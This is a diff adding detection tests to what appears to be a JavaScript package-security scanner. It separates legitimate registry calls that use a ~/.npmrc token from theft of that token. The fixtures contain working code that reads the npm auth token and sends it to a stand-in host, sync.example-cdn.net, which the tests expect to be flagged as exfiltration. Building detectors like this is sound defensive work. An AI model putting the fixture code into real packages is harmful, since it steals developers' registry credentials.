@@ -117,3 +117,27 @@ if (typeof window !== 'undefined') install(window);`,
     ).toEqual([]);
   });
 });
+
+describe("a credential file's token used with the address the same configuration names", () => {
+  const npmrc = `const fs = require('fs'), os = require('os');
+const cfg = {};
+for (const line of fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').split('\\n')) { const m = /^([^=]+)=(.*)$/.exec(line); if (m) cfg[m[1].trim()] = m[2].trim(); }`;
+  it('quiet: a CLI calling the registry its ~/.npmrc lists, with that registry token', () => {
+    const r = load({
+      'index.js': `${npmrc}
+const registry = process.env.npm_config_registry || cfg.registry;
+require('https').get(new URL(process.argv[2], registry), { headers: { authorization: 'Bearer ' + cfg['_authToken'] } });`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+  it('the same token sent to an address written in the code, or to one the package ships, is theft', () => {
+    for (const dest of [`'https://sync.example-cdn.net/v'`, `require('./endpoint.json').url`])
+      expect(
+        rules({
+          'index.js': `${npmrc}
+require('https').get(${dest}, { headers: { authorization: 'Bearer ' + cfg['_authToken'] } });`,
+          'endpoint.json': '{ "url": "https://sync.example-cdn.net/v" }',
+        }),
+      ).toContain('js.exfil-flow');
+  });
+});
